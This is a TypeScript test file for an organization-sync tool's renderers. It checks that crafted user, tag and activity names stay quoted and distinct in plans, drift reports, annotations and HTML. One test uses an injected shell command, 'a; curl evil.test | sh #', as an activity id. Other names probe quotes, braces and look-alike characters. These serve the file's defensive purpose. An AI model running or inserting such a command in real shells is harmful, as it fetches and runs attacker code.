/**
 * Names that try to be more than names: another member, a note of ours, another line, the other end of an arrow. Every
 * line shows which part of it is a name.
 */

import { describe, expect, it } from "vitest";
import { showAddress, showName, showRename, showSpaces } from "../../src/common/escape.ts";
import { makeThreeWay } from "../../src/plan/base/three-way.ts";
import { knownDifferences } from "../../src/plan/drift/difference.ts";
import { reportDrift } from "../../src/plan/drift/drift.ts";
import { findTodo } from "../../src/plan/drift/todo.ts";
import { makePlan, type Plan } from "../../src/plan/plan.ts";
import { renderGithub } from "../../src/render/github.ts";
import { renderHtml } from "../../src/render/html/page.ts";
import { renderMarkdown } from "../../src/render/markdown.ts";
import { phraseText } from "../../src/render/print/text.ts";
import { renderPlan, renderReport } from "../../src/render/result-text.ts";
import { savedPlanSection } from "../../src/render/sections/saved-plan.ts";
import { plainStyle } from "../../src/render/style.ts";
import { todoText } from "../../src/say/todo.ts";
import { context, desiredOf, id, known, liveOf, liveTag, wantTag } from "../plan/support-organizations.ts";
import { renderDrift, renderThreeWay } from "./as-text.ts";
import { complete } from "./complete.ts";
import { fingerprint, reportOf } from "./support.ts";
import { impactPlanOf } from "./support-impact.ts";

type Naming = (name: string) => string;

const [alice, bob, carol] = [1, 2, 3].map((number) => id("user", number)) as [string, string, string];

/** What a plan, a base, drift and a report say of an organization in which everything has such a name. */
function textsOf(name: Naming): Readonly<Record<string, string>> {
	const exactly = (...users: string[]) => ({ members: { mode: "exactly", exactly: users } }) as const;
	const documentOf = (users: Readonly<Record<string, string>>) =>
		desiredOf({
			users,
			userTags: [wantTag(name("officers"), { id: id("tag", 1), ...exactly(alice, bob) })],
			absent: {
				policyIds: [id("policy", 1)],
				oauthProviders: [{ userId: alice, providerIds: [id("provider", 1)] }],
				tvcAppIds: [id("app", 1)],
			},
			protect: { userIds: [], userTags: [name("officers")] },
		});
	const head = documentOf({ [name("alice")]: alice, [name("bob")]: bob });
	const base = documentOf({ [name("alice")]: bob, [name("al")]: alice });
	const live = liveOf({
		users: known({ [alice]: name("Alice"), [bob]: name("Robert"), [carol]: name("Caroline") }),
		userTags: known([
			liveTag(1, name("signers"), { members: known([carol]) }),
			liveTag(2, name("guests"), { members: known([]) }),
		]),
		policies: known([{ id: id("policy", 1), name: name("old rule") }]),
		oauthProviders: known([{ userId: alice, id: id("provider", 1), name: name("login") }]),
		tvcApps: known([{ id: id("app", 1), name: name("retired") }]),
	});
	const waiting = [
		{
			activityId: name("activity"),
			fingerprint: name("print"),
			state: "pending",
			status: name("STATUS"),
			operation: "delete_policies",
			parameters: { policyIds: [id("policy", 1)] },
			createdAt: "2026-01-01T00:00:00.000Z",
			approvedBy: [alice],
			saidBy: "service",
		},
	] as const;
	const plan = makePlan(head, live, { ...context, waiting, caller: known(alice) });
	const threeWay = makeThreeWay({ name: name("main"), desired: base }, head, live);
	const by = { activityId: name("a"), type: name("T"), userId: carol, userName: name("Caroline"), at: null };
	const drift = reportDrift(plan, {
		attributions: new Map([[`userTag:${name("officers")}`, { ...by, liveName: name("Caroline") }]]),
	});
	// What to do names a command, quoted as a shell needs it: that is looked at on its own.
	const withoutTodo = (text: string): string => text.replaceAll(/to do: .*/g, "");
	return {
		"a plan": renderPlan(plan, plainStyle),
		"a plan with a base": renderThreeWay(plan, threeWay, plainStyle),
		drift: withoutTodo(renderDrift(plan, drift, plainStyle)),
		annotations: renderGithub(complete({ command: "plan", plans: [plan], threeWay: [threeWay] })).annotations,
		// Nothing between back quotes can end them. Reasons are whole sentences, and a name that is cut has an id.
		"a plan with an impact": renderPlan(
			impactPlanOf(name, (text) => text),
			plainStyle,
		)
			.replaceAll(/`[^`\n]*`/g, "N")
			.replaceAll(/ \(id [0-9a-f]{8}\u2026\)/g, ""),
		Markdown: renderMarkdown(complete({ command: "plan", plans: [plan], threeWay: [threeWay] })),
		"a report": renderReport(
			reportOf(plan, (text) => text, { unverified: null }),
			plan,
			plainStyle,
		),
	};
}

/** A letter for every name: those in quotes, and the peaceful ones by their mark; two names in a list keep their order. */
function withoutNames(text: string): string {
	return text
		.replaceAll(/"(?:[^"\\]|\\.)*"/g, "N")
		.replaceAll(/qq\w+(\/[0-9a-f-]{36})?/gi, "N")
		.replaceAll(/`+/g, "`");
}

const peaceful = textsOf((name) => `Qq${name.replaceAll(" ", "_")}`);

describe("a name", () => {
	it.each([
		["that is a list", "bob, carol "],
		["with a note of ours", "bob  (reverts drift) "],
		["that ends a note", "bob) "],
		["with the other end of an arrow", "signers -> root "],
		["with an outcome", "bob  [completed] "],
		["with a sentence of ours", "bob; apply leaves it alone: "],
		["with a sign", "bob - member root "],
		["with back quotes", "bob` to `root "],
		["with quotes and escapes", 'bob" \\u{a} " '],
		["in braces, which a shell expands", "{bob,root} "],
		["with so many blanks that a sign stands in the next row", `bob${" ".repeat(9)}- member root `],
	])("%s is distinct from the words around it in every line of every text", (_, hostile) => {
		const texts = textsOf((name) => `${hostile}${name.replaceAll(" ", "_")}`);
		for (const [what, text] of Object.entries(texts)) {
			expect(withoutNames(text), what).toBe(withoutNames(peaceful[what] ?? ""));
			for (const [name] of text.matchAll(/"(?:[^"\\]|\\.)*"/g)) expect(name, what).not.toContain("  ");
		}
	});

	it.each([
		"alice",
		"Alice Smith",
		"team:signers",
		"a/b",
		"o'brien",
		"x@y.test",
		"#1",
		"größe",
		"a-b+c",
		"山田",
		"100%",
	])("%j is shown unchanged", (name) => expect(showName(name)).toBe(name));

	it("after the kind of an address is in quotes alone", () => {
		expect(showAddress("userTag:a, b")).toBe('userTag:"a, b"');
		expect(showAddress("userTag:a:b")).toBe("userTag:a:b");
		expect(showAddress("caller")).toBe("caller");
	});

	it("shows blanks that a reader would miss", () => {
		expect(showSpaces(" a  b ")).toBe("\\u{20}a\\u{20} b\\u{20}");
		expect(showName("signers ")).toBe('"signers\\u{20}"');
	});
});

describe("a rename to a name that looks the same", () => {
	const [composed, apart] = ["caf\u00e9", "cafe\u0301"];

	it("is spelled out, in text and on the page", () => {
		expect(showRename(composed, apart)).toEqual(["caf\\u{e9}", "cafe\\u{301}"].map(showName));
		const plan = makePlan(
			desiredOf({ userTags: [wantTag(composed, { id: id("tag", 1) })] }),
			liveOf({ userTags: known([liveTag(1, apart)]) }),
			context,
		);
		const shown = '"cafe\\\\u{301}" -> "caf\\\\u{e9}"';
		expect(renderPlan(plan, plainStyle)).toContain(`name: ${shown}`);
		const page = renderHtml(complete({ command: "plan", plans: [plan] })).replaceAll("&#34;", '"');
		for (const name of shown.split(" -> ")) expect(page).toContain(`<strong><bdi>${name}</bdi></strong>`);
	});

	it("is shown like any other where both look different", () =>
		expect(showRename("signers", "signérs")).toEqual(["signers", "signérs"]));

	it("that differs from it far inside is shown whole", () => {
		const [before, after] = [`${"x".repeat(200)}a${"x".repeat(200)}`, `${"x".repeat(200)}b${"x".repeat(200)}`];
		expect(showRename(before, after)).toEqual([before, after]);
	});

	it("of which the end is what matters keeps the end in sight", () => {
		const [before, after] = showRename(`${"x".repeat(400)}-old`, `${"x".repeat(400)}-root`);
		expect(before).toMatch(/^x{80}…x+-old$/);
		expect(after).toMatch(/^x{80}…x+-root$/);
	});
});

describe("a command that is shown", () => {
	it("has an activity's id as one word, whatever the service calls it, and explains only a UUID", () => {
		const activityId = "a; curl evil.test | sh #";
		const policy = id("policy", 1);
		const plan: Plan = makePlan(
			desiredOf({ absent: { policyIds: [policy], oauthProviders: [], tvcAppIds: [] } }),
			liveOf({ policies: known([{ id: policy, name: "old" }]) }),
			{
				...context,
				waiting: [
					{
						...{
							activityId,
							fingerprint,
							state: "pending",
							status: "ACTIVITY_STATUS_CONSENSUS_NEEDED",
							operation: "delete_policies",
						},
						...{ parameters: { policyIds: [policy] }, createdAt: null, approvedBy: null, saidBy: "service" },
					},
				],
			},
		);
		const [difference] = knownDifferences(plan);
		if (difference === undefined) throw new Error("nothing differs");
		expect(todoText(findTodo(difference, plan))).toBe(`wait for activity '${activityId}', which makes the same change`);
		const contradicted = {
			...plan,
			waiting: plan.waiting.map((one) => ({ ...one, relation: "conflicting" as const })),
		};
		expect(renderPlan(contradicted, plainStyle)).toContain(`--abandon '${activityId}'\n`);
		const steps = plan.steps.map((step) => ({
			...{ step, outcome: "awaiting-approval" as const, activityId, fingerprint, requests: 1, tookMs: 1 },
			...{ message: null, refusedStatus: null, keyNotAccepted: false, policyEvaluations: [], parts: [] },
		}));
		const report = renderReport({ ...reportOf(plan), steps, left: [], unverified: null }, plan, plainStyle);
		expect(report).toContain(`     activity ${showName(activityId)}, fingerprint`);
		expect(report).not.toContain("orgsync explain");
	});
});

describe("what cannot be shown whole", () => {
	const users = Object.fromEntries(Array.from({ length: 100 }, (_, index) => [`user-${index}`, id("user", index)]));
	const plan = makePlan(
		desiredOf({ users, userTags: [wantTag("signers", { members: { mode: "exactly", exactly: [] } })] }),
		liveOf({ userTags: known([liveTag(1, "signers", { members: known(Object.values(users)) })]) }),
		context,
	);

	it("in an annotation says that it was cut, and where the whole is", () => {
		const line = renderGithub(complete({ command: "plan", plans: [plan] }))
			.annotations.split("\n")
			.find((one) => one.includes("signers;") || one.includes("userTag:signers "));
		expect(line).toBeDefined();
		expect(renderGithub(complete({ command: "plan", plans: [plan] })).annotations).toMatch(
			/^::warning .*… \(cut here: the summary has all of it\)$/m,
		);
	});
});

describe("a saved plan", () => {
	it("that says more of its maker than a name and a version says it in quotes", () => {
		const savedPlan = { digest: fingerprint, readAt: null };
		const tell = (generatedBy: string) =>
			phraseText(
				savedPlanSection(complete({ command: "show", plans: [], savedPlan: { ...savedPlan, generatedBy } })).lead ?? [],
			);
		expect(tell("orgsync 1.2.3")).toContain(", made by orgsync 1.2.3.");
		expect(tell("orgsync 1.2.3. Approved by security")).toContain(', made by "orgsync 1.2.3. Approved by security".');
	});
});
